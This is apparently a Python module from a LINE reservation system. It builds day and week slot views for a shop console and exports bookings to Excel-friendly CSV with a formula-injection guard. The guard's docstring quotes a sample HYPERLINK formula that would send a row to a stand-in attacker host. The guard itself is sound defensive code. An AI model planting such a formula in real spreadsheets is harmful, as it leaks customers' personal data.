"""What the console's pages show, computed from the database (no HTTP here): a day, a week, a CSV."""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta

from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from linemod_reservation import store
from linemod_reservation.models import Reservation, ReservationStatus, Slot
from linemod_reservation.slots import ShopRules

CSV_HEADER = ("予約番号", "日付", "時間", "人数", "お名前", "ご要望", "状態", "受付", "LINEユーザーID", "受付日時")


@dataclass
class SlotRow:
    start: str
    capacity: int
    booked: int
    reservations: list[Reservation] = field(default_factory=list)

    @property
    def free(self) -> int:
        return max(0, self.capacity - self.booked)

    @property
    def level(self) -> str:
        """ "full", "busy" (half or more taken) or "" (for the colour of the cell)."""
        if self.booked >= self.capacity:
            return "full"
        return "busy" if self.booked * 2 >= self.capacity else ""


@dataclass
class DayView:
    day: date
    open: bool
    slots: list[SlotRow]
    reservations: list[Reservation]  # every reservation of the day, cancelled ones too
    guests: int  # people expected (confirmed reservations)


async def _slot_counts(session: AsyncSession, bot_id: str, first: str, last: str) -> dict[tuple[str, str], Slot]:
    rows = await session.scalars(select(Slot).where(Slot.bot_id == bot_id, Slot.day >= first, Slot.day <= last))
    return {(s.day, s.start): s for s in rows}


async def day_view(session: AsyncSession, rules: ShopRules, bot_id: str, day: date) -> DayView:
    iso = day.isoformat()
    reservations = await store.between(session, bot_id, iso, iso)
    counts = await _slot_counts(session, bot_id, iso, iso)
    by_start: dict[str, list[Reservation]] = defaultdict(list)
    for r in reservations:
        if r.status == ReservationStatus.CONFIRMED:
            by_start[r.start].append(r)
    starts = sorted(set(rules.starts(day)) | set(by_start))  # a booking outside today's hours still shows
    slots = []
    for start in starts:
        slot = counts.get((iso, start))
        slots.append(
            SlotRow(
                start, slot.capacity if slot else rules.capacity, slot.booked if slot else 0, by_start.get(start, [])
            )
        )
    guests = sum(r.party_size for r in reservations if r.status == ReservationStatus.CONFIRMED)
    return DayView(day, rules.is_open(day), slots, reservations, guests)


@dataclass
class WeekView:
    days: list[date]
    open: list[bool]
    starts: list[str]
    cells: dict[tuple[str, str], SlotRow]  # (day, start) -> counts
    guests: list[int]


def week_start(day: date) -> date:
    return day - timedelta(days=day.weekday())


async def week_view(session: AsyncSession, rules: ShopRules, bot_id: str, first: date) -> WeekView:
    days = [first + timedelta(days=i) for i in range(7)]
    first_iso, last_iso = days[0].isoformat(), days[-1].isoformat()
    counts = await _slot_counts(session, bot_id, first_iso, last_iso)
    reservations = await store.between(session, bot_id, first_iso, last_iso, cancelled=False)
    starts = sorted({s for d in days for s in rules.starts(d)} | {r.start for r in reservations})
    cells: dict[tuple[str, str], SlotRow] = {}
    for d in days:
        iso = d.isoformat()
        day_starts = set(rules.starts(d))
        for start in starts:
            slot = counts.get((iso, start))
            if slot is None and start not in day_starts:
                continue
            cells[(iso, start)] = SlotRow(start, slot.capacity if slot else rules.capacity, slot.booked if slot else 0)
    for r in reservations:
        cell = cells.get((r.day, r.start))
        if cell is not None:
            cell.reservations.append(r)
    guests = [sum(r.party_size for r in reservations if r.day == d.isoformat()) for d in days]
    return WeekView(days, [rules.is_open(d) for d in days], starts, cells, guests)


def to_csv(reservations: list[Reservation], rules: ShopRules) -> str:
    """Reservations as CSV, with a BOM so that Excel opens the Japanese correctly."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(CSV_HEADER)
    for r in reservations:
        created = datetime.fromtimestamp(r.created_at_ms / 1000, rules.tz).strftime("%Y-%m-%d %H:%M")
        status = "キャンセル" if r.status == ReservationStatus.CANCELLED else "確定"
        source = "電話・店頭" if r.source == "console" else "LINE"
        row = (r.number, r.day, r.start, r.party_size, r.customer_name, r.note, status, source, r.user_id, created)
        writer.writerow([inert(cell if cell is not None else "") for cell in row])
    return out.getvalue()


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(cell: object) -> object:
    """A text cell a spreadsheet will not run: names and notes come from LINE users, and a cell starting
    with "=", "+", "-" or "@" is a formula to Excel (`=HYPERLINK("http://evil.example/?"&A2, ...)` would
    send the row away). A leading apostrophe makes it text; numbers stay numbers."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell
